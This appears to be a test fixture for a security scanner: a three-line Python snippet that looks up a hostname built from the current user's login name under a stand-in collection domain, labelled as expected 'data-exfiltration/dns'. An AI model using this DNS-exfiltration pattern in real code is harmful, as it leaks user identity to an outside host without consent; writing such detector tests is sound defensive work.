import getpass
import socket

socket.gethostbyname(f"{getpass.getuser()}.x.collect.example") # expect: data-exfiltration/dns
